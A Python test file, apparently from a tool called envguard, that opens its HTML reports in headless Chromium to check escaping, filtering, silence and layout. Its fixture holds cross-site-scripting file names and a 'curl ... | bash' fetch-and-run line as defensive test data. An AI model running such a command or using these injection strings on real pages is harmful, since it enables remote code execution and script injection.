"""The page in a real browser, where one is installed: silent, without requests, and it filters."""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from envguard.reports.report import Report, render

sync_api = pytest.importorskip("playwright.sync_api")

BROWSER = next(
    (path for name in ("chromium-headless-shell", "chromium", "google-chrome")
     if (path := shutil.which(name))),
    None,
)  # fmt: skip
HOSTILE = {
    "<img src=x onerror=alert(1)>.sh": "curl -s https://x.org/i.sh | bash\n",
    "'\"><script>alert(1)<.sh": "curl -s https://x.org/i.sh | bash\npip install numpy\n",
}


@pytest.mark.skipif(BROWSER is None, reason="no Chromium is installed")
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_page_works_and_is_silent(
    scheme: str, run: Callable[..., Report], tmp_path: Path
) -> None:
    page_file = tmp_path / "page.html"
    page_file.write_text(render("html", run(HOSTILE)), encoding="utf-8")
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=BROWSER, args=["--no-sandbox"])
        page = browser.new_context(color_scheme=scheme).new_page()
        heard: list[str] = []
        page.on("console", lambda message: heard.append(message.text))
        page.on("pageerror", lambda error: heard.append(str(error)))
        page.on("dialog", lambda dialog: heard.append(dialog.message))
        page.on("request", lambda request: heard.append(request.url))
        page.goto(page_file.as_uri())
        assert page.inner_text("#shown") == "3 of 3 shown"
        page.keyboard.press("/")
        page.keyboard.type("NUMPY")
        assert page.inner_text("#shown") == "1 of 3 shown"
        page.focus("button[type=reset]")
        page.keyboard.press("Enter")
        page.wait_for_function("document.getElementById('shown').textContent[0] === '3'")
        page.uncheck("input[value=error]")
        assert page.inner_text("#shown") == "1 of 3 shown"
        page.select_option("select[name=file]", index=1)
        assert page.is_visible("#none") or page.inner_text("#shown") == "1 of 3 shown"
        page.set_viewport_size({"width": 360, "height": 640})
        assert page.evaluate("document.documentElement.scrollWidth") <= 360
        browser.close()
    assert heard == [page_file.as_uri()]


@pytest.mark.skipif(BROWSER is None, reason="no Chromium is installed")
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("kind", ["paper", "fleet"])
def test_a_report_without_script_is_silent_and_fits(kind: str, scheme: str, tmp_path: Path) -> None:
    from envguard.engine.fleet.running import FleetRequest, run_fleet
    from envguard.engine.paper.writing import write_paper
    from envguard.reports.fleet import html as fleet_html
    from envguard.reports.paper import html as paper_html

    project = Path(__file__).resolve().parents[2] / "fixtures" / "projects" / "paper-signed"
    if kind == "paper":
        text = paper_html.render(write_paper(str(project), True, "2026-11-01")[0])
    else:
        fleet = run_fleet(FleetRequest((str(project.parent / "paper"),)), None, lambda name: None)
        text = fleet_html.render(fleet)
    page_file = tmp_path / "page.html"
    page_file.write_text(text, encoding="utf-8")
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=BROWSER, args=["--no-sandbox"])
        page = browser.new_context(color_scheme=scheme, java_script_enabled=True).new_page()
        heard: list[str] = []
        page.on("console", lambda message: heard.append(message.text))
        page.on("pageerror", lambda error: heard.append(str(error)))
        page.on("request", lambda request: heard.append(request.url))
        page.goto(page_file.as_uri())
        # the keyboard reaches the first link, which leads past what stands above
        page.keyboard.press("Tab")
        assert page.evaluate("document.activeElement.className") == "skip"
        for width in (360, 1000):
            page.set_viewport_size({"width": width, "height": 640})
            assert page.evaluate("document.documentElement.scrollWidth") <= width
        for paper in ("A4", "Letter"):
            printed = page.pdf(format=paper)
            assert printed.startswith(b"%PDF")
            assert 1 <= printed.count(b"/Type /Page\n") <= 8
        browser.close()
    assert heard == [page_file.as_uri()]
